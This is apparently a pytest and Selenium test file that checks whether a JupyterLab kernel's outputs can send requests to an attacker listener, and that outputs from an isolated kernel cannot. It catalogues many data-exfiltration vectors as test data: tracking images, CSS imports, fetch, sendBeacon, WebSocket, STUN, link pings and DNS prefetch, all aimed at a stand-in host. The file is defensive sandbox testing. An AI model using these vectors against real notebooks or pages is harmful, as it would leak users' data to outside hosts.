"""Outputs that carry data out, in a real JupyterLab without the server's headers: a direct kernel's reach the attacker,
the same ones from behind the wall do not.

The attacker has an HTTP server and a UDP port (for WebRTC); the browser's own log of name look-ups stands for his DNS server.
"""

import contextlib
import json
import socket
import time

import harness
import pytest
from conftest import Lab, notebook, start_browser
from selenium.webdriver.common.action_chains import ActionChains
from selenium.webdriver.common.by import By
from test_headers import Listener
from test_lab import current, open_notebook, run_cell, shot, until

# Markup that asks TO for /NAME without a script or a click.
MARKUP = {
    "img": '<img src="TO/img">',
    "style": '<div style="background:url(TO/style)">x</div>',
    "import": '<style>@import url("TO/import");</style>',
    "font": "<style>@font-face{font-family:f;src:url(TO/font)}</style><p style='font-family:f'>x</p>",
    "stylesheet": '<link rel="stylesheet" href="TO/stylesheet">',
    "prefetch": '<link rel="prefetch" href="TO/prefetch">',
    "preload": '<link rel="preload" as="script" href="TO/preload">',
    "video": '<video src="TO/video" poster="TO/poster"></video>',
    "audio": '<audio src="TO/audio" preload="auto"></audio>',
    "object": '<object data="TO/object"></object>',
    "embed": '<embed src="TO/embed">',
    "svg": '<svg><image href="TO/svg" width="9" height="9"/></svg>',
    "iframe": '<iframe src="TO/iframe"></iframe>',
    "srcdoc": "<iframe srcdoc='<img src=\"TO/srcdoc\">'></iframe>",
    "dns": '<link rel="dns-prefetch" href="//dns-prefetch.KIND.test"><link rel="preconnect" href="//preconnect.KIND.test">',
    "input": '<input type="image" src="TO/input">',
}
# And by a script, in an output of its own.
SCRIPT = {
    "fetch": "fetch('TO/fetch', {mode: 'no-cors'})",
    "xhr": "{const x = new XMLHttpRequest(); x.open('GET', 'TO/xhr'); x.send();}",
    "beacon": "navigator.sendBeacon('TO/beacon', 'x')",
    "websocket": "new WebSocket('TO/websocket'.replace('http', 'ws'))",
    "events": "new EventSource('TO/events')",
    "imported": "import('TO/imported')",
    "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('TO/worker', {mode: 'no-cors'})\"])))",
    "form": "{const f = document.createElement('form'); f.action = 'TO/form'; f.target = '_blank'; document.body.append(f);"
    " f.submit();}",
    "stun": "{const c = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]}); c.createDataChannel('x');"
    " c.createOffer().then(o => c.setLocalDescription(o));}",
}
# Other types with the same power.
OTHER = {
    "javascript": {"application/javascript": "fetch('TO/javascript', {mode: 'no-cors'})"},
    "markdown": {"text/markdown": "![x](TO/markdown)"},
    "svgimage": {"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg"><image href="TO/svgimage"/></svg>'},
}
LINKS = '<a href="TO/self">aaaa</a> <a href="TO/blank" target="_blank">bbbb</a> <a href="TO/top" target="_top">cccc</a>'
# The second one needs a frame: clicks in it are clicks on links and a form of the frame's own.
CLICKED = [
    {"text/html": LINKS},
    {
        "text/html": "<style>a, button { display: inline-block; width: 40px }</style>"
        '<a href="TO/ping" ping="TO/pinged">eeee</a> ' + LINKS + '<form action="TO/posted" method="post" target="_blank">'
        '<button>dddd</button></form>'
    },
]


def cells(kind, to, udp):
    """All that needs no click, and the links."""
    outputs = [{"text/html": markup} for markup in MARKUP.values()]
    outputs += [{"text/html": f"<script>{script}</script>"} for script in SCRIPT.values()]
    outputs += list(OTHER.values())
    outputs, clicked = (
        json.dumps(text).replace("TO/", f"{to}/{kind}-").replace("UDP", str(udp)).replace("KIND", kind)
        for text in (outputs, CLICKED)
    )
    show = "import json\nfrom IPython.display import display\n"
    return [
        f"{show}for data in json.loads({outputs!r}):\n    display(data, raw=True)\nprint('all were', 'shown')",
        f"{show}for data in json.loads({clicked!r}):\n    display(data, raw=True)",
    ]


class Attacker(Listener):
    """Knows the two kernels apart by what is asked for."""

    def __init__(self):
        super().__init__()
        self.udp = {}
        for kind in (harness.DIRECT, harness.ISOLATED):
            self.udp[kind] = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            self.udp[kind].bind(("127.0.0.1", 0))
            self.udp[kind].settimeout(0.1)

    def heard(self, kind):
        """What reached it from this kernel's outputs."""
        found = {path.removeprefix(f"/{kind}-") for path in list(self.asked) if path.startswith(f"/{kind}-")}
        with contextlib.suppress(TimeoutError):
            if self.udp[kind].recv(2048):
                found.add("stun")
        return found


@pytest.fixture(scope="module")
def attacker():
    attacker = Attacker()
    yield attacker
    attacker.shutdown()
    attacker.server_close()
    for udp in attacker.udp.values():
        udp.close()


@pytest.fixture(scope="module")
def names(site):
    """The browser's log of what it does on the network, names that it looks up among it."""
    return site.root / "net.json"


@pytest.fixture(scope="module")
def plain(site, names):
    lab = Lab(site, headers=False)
    browser = start_browser(site, "chromium-leaks", f"--log-net-log={names}")
    yield browser, lab
    browser.quit()
    lab.close()


def show_all(plain, attacker, kind):
    browser, lab = plain
    name = f"leaks-{kind}.ipynb"
    port = attacker.udp[kind].getsockname()[1]
    lab.site.put(lab.folder, name, notebook(cells(kind, attacker.url, port), kind))
    open_notebook(browser, lab, name)
    run_cell(browser, 0)
    until(browser, lambda: "all were shown" in current(browser)[0]["text"], 60, "all outputs")
    area = browser.find_elements(By.CSS_SELECTOR, ".jp-CodeCell")[0]
    for output in area.find_elements(By.CSS_SELECTOR, ".jp-OutputArea-output"):
        browser.execute_script("arguments[0].scrollIntoView({block: 'center'})", output)
        time.sleep(0.1)
    time.sleep(3)
    run_cell(browser, 1)
    until(browser, lambda: current(browser)[1]["prompt"].strip() not in ("[ ]:", "[*]:"), 60, "the links")


# Not heard from a direct kernel either: pop-ups need a click, an SVG is a picture, a name is no request.
QUIET = {"form", "svgimage", "dns"}


def test_a_direct_kernel_leaks(plain, attacker):
    show_all(plain, attacker, harness.DIRECT)
    browser = plain[0]
    link = browser.find_element(By.LINK_TEXT, "bbbb")
    browser.execute_script("arguments[0].scrollIntoView({block: 'center'})", link)
    ActionChains(browser).move_to_element(link).click().perform()
    time.sleep(1)
    heard = attacker.heard(harness.DIRECT)
    wanted = (set(MARKUP) | set(SCRIPT) | set(OTHER) | {"poster", "blank"}) - QUIET
    assert wanted - heard == set()


def test_nothing_leaks_from_behind_the_wall(plain, attacker):
    browser = plain[0]
    for handle in browser.window_handles[1:]:
        browser.switch_to.window(handle)
        browser.close()
    browser.switch_to.window(browser.window_handles[0])
    show_all(plain, attacker, harness.ISOLATED)
    area = browser.find_elements(By.CSS_SELECTOR, ".jp-CodeCell")[1]
    outputs = area.find_elements(By.CSS_SELECTOR, ".jp-OutputArea-output")
    assert len(outputs) == len(CLICKED) and outputs[1].find_elements(By.TAG_NAME, "iframe")
    shot(browser, "7-links-behind-the-wall")
    for output in outputs:
        browser.execute_script("arguments[0].scrollIntoView({block: 'center'})", output)
        width, height = output.size["width"], output.size["height"]
        for y in range(10, min(height, 60), 16):
            for x in range(10, 240, 20):
                ActionChains(browser).move_to_element_with_offset(output, x - width // 2, y - height // 2).click().perform()
    time.sleep(2)
    assert attacker.heard(harness.ISOLATED) == set()
    assert len(browser.window_handles) == 1 and "/lab" in browser.current_url


def test_names_that_were_looked_up(plain, names):
    plain[0].quit()  # its log is written to the end
    log = names.read_text(errors="replace")
    assert "dns-prefetch.direct.test" in log and "preconnect.direct.test" in log
    assert ".isolated.test" not in log
